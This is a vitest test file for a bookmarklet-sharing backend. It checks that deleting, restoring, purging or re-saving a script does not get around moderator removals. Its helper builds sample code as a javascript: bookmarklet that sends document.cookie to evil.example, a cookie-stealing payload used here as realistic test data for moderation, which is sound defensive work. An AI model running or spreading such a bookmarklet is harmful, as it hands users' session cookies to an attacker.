import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
import { type SavedScript, save } from "../support/save.ts";

const fixture = openFixture();
const { anon, other, admin } = fixture.people;
afterAll(() => fixture.close());
beforeEach(() => forgetRates(fixture));

let author: Person & { readonly id: string };
beforeAll(async () => {
	author = await newcomer(fixture, "Mallory");
});

const delete_ = async (...p_ids: string[]) =>
	expect((await author.hub.rpc("delete_scripts", { p_ids })).error).toBeNull();
const undelete = (...p_ids: string[]) => author.hub.rpc("undelete_scripts", { p_ids });
const purge = async (...p_ids: string[]) => expect((await author.hub.rpc("purge_scripts", { p_ids })).error).toBeNull();
const moderate = (id: string, status: string) =>
	fixture.sql`update public.bookmarklets set moderation_status = ${status} where id = ${id}`;
const exists = async (id: string) => (await fixture.sql`select from public.bookmarklets where id = ${id}`).length === 1;
const isPublic = async (id: string) => ((await anon.hub.rpc("get_script", { p_id: id })).data ?? []).length === 1;

describe("deleting does not get around moderators", () => {
	/** Unique code, and two scripts of the author with it. */
	async function twins(): Promise<{ readonly code: string; readonly one: SavedScript; readonly two: SavedScript }> {
		const code = `javascript:fetch('https://evil.example/${randomUUID()}'+document.cookie)`;
		return { code, one: await save(author, { p_code: code }), two: await save(author, { p_code: code }) };
	}

	test("a removed script stays removed when it is deleted and restored, and cannot be published", async () => {
		const { id } = await save(author);
		await moderate(id, "removed");
		await delete_(id);
		expect((await undelete(id)).data).toEqual([{ id, is_published: true, moderation_status: "removed" }]);
		expect(await isPublic(id)).toBe(false);
		expect(await author.hub.rpc("publish_scripts", { p_ids: [id], p_published: true })).toMatchObject({
			error: { code: "PT409", message: "This script was removed by a moderator and cannot be published." },
		});
		const fine = await save(author, { p_publish: false });
		const both = await author.hub.rpc("publish_scripts", { p_ids: [fine.id, id], p_published: true });
		expect(both).toMatchObject({
			error: { code: "PT409", message: expect.stringContaining("was removed by a moderator") },
		});
		expect(await isPublic(fine.id)).toBe(false);
	});

	test("a decision made while it is deleted holds when it is restored", async () => {
		const { id } = await save(author);
		const { data: report } = await other.hub.rpc("report_script", { p_bookmarklet_id: id, p_reason: "malicious" });
		await delete_(id);
		await purge(id);
		expect(await exists(id)).toBe(true);
		expect(await undelete(id)).toMatchObject({ status: 404 });
		expect((await admin.hub.rpc("get_script", { p_id: id })).data).toHaveLength(1);
		expect(report).not.toBeNull();

		const second = await save(author);
		await delete_(second.id);
		await moderate(second.id, "removed");
		await undelete(second.id);
		expect(await isPublic(second.id)).toBe(false);
	});

	test("a deleted copy of code that was removed meanwhile is held when it is restored", async () => {
		const { one, two } = await twins();
		await delete_(two.id);
		await moderate(one.id, "removed");
		expect((await undelete(two.id)).data).toEqual([{ id: two.id, is_published: true, moderation_status: "pending" }]);
		expect(await isPublic(two.id)).toBe(false);
		const open = await fixture.sql`
			select from public.moderation_reports where bookmarklet_id = ${two.id} and status = 'pending' and reporter_id is null`;
		expect(open).toHaveLength(1);
		await delete_(two.id);
		await undelete(two.id);
		expect(await isPublic(two.id)).toBe(false);
	});

	test("removed code is held when its script was deleted, purged and saved again, and when a draft of it is restored", async () => {
		const { code, one, two } = await twins();
		await author.hub.rpc("publish_script", { p_id: two.id, p_published: false });
		await delete_(two.id);
		await moderate(one.id, "removed");
		await delete_(one.id);
		await purge(one.id);
		expect(await save(author, { p_code: code })).toMatchObject({ moderation_status: "pending" });
		await undelete(two.id);
		await author.hub.rpc("publish_scripts", { p_ids: [two.id], p_published: true });
		expect(await isPublic(two.id)).toBe(false);
	});
});
